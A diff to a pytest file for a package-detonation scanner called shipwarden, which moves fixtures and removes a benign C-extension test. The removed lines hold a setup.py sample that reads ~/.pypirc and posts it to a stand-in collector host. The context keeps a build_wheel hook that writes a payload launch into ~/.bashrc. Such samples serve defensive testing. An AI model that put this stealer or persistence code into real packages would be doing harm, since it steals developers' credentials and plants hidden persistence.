@@ -13,7 +13,7 @@ import tarfile
 from pathlib import Path
 
 import pytest
-from detonatetools import CI, needs_sandbox, needs_strace
+from detonatetools import CI, PKG_INFO, STEALER, needs_sandbox, needs_strace
 
 from shipwarden.detonate import DetonateOptions, DetonateResult, Profile, run_detonate
 from shipwarden.sandbox import Limits
@@ -21,19 +21,6 @@ from shipwarden.sandbox import Limits
 pytestmark = [needs_sandbox, needs_strace]
 
 LIMITS = Limits(wall_seconds=180, cpu_seconds=180, memory_bytes=8 << 30, processes=512, output_bytes=96 << 20)
-
-PKG_INFO = "Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n"
-
-#: setup.py that reads ~/.pypirc and posts it (inert: the sandbox's sink is the only network)
-STEALER = '''import os, urllib.request
-from setuptools import setup
-try:
-    loot = open(os.path.expanduser("~/.pypirc")).read()
-    urllib.request.urlopen("http://upload.collector.example.invalid/p", data=loot.encode(), timeout=5)
-except Exception:
-    pass
-setup(name="pypirc-stealer", version="1.0", py_modules=["stealer"])
-'''
 
 #: an in-tree PEP 517 backend whose build_wheel hook appends to ~/.bashrc, then builds normally
 BACKEND = '''import os
@@ -46,18 +33,6 @@ def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
         fh.write("python3 -m rc_payload &\\n")
     return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
 '''
-
-CEXT = r'''#include <Python.h>
-static PyObject *add(PyObject *self, PyObject *args) {
-    long a, b;
-    if (!PyArg_ParseTuple(args, "ll", &a, &b)) return NULL;
-    return PyLong_FromLong(a + b);
-}
-static PyMethodDef methods[] = {{"add", add, METH_VARARGS, "add"}, {NULL, NULL, 0, NULL}};
-static struct PyModuleDef mod = {PyModuleDef_HEAD_INIT, "fastsum", NULL, -1, methods};
-PyMODINIT_FUNC PyInit_fastsum(void) { return PyModule_Create(&mod); }
-'''
-
 
 def write_tree(root: Path, files: dict[str, str]) -> Path:
     for rel, text in files.items():
@@ -114,17 +89,3 @@ def test_malicious_setup_py_and_build_backend_hook(tmp_path: Path) -> None:
     assert got == {"detonate-persistence": "P0"}, got
     rc = next(f for f in result.report.findings if f.rule_id == "detonate-persistence")
     assert "~/.bashrc" in rc.message and "build_wheel" in rc.message
-
-
-def test_benign_c_extension_build_shows_nothing(tmp_path: Path) -> None:
-    """A setup.py that compiles a C extension (gcc runs, the wheel is installed, Python starts): no finding at all."""
-    cext = write_tree(tmp_path / "fastsum-1.0", {
-        "PKG-INFO": PKG_INFO.format(name="fastsum"),
-        "setup.py": 'from setuptools import Extension, setup\n'
-                    'setup(name="fastsum", version="1.0", ext_modules=[Extension("fastsum", ["fastsum.c"])])\n',
-        "fastsum.c": CEXT,
-    })
-    result = detonate(cext, profile=Profile.CI)
-    assert result.observations[0].statuses == {"build": 0, "install": 0, "startup": 0}
-    assert "fastsum.cpython" in result.observations[0].output  # the extension was compiled
-    assert result.report.findings == [], [f.message for f in result.report.findings]
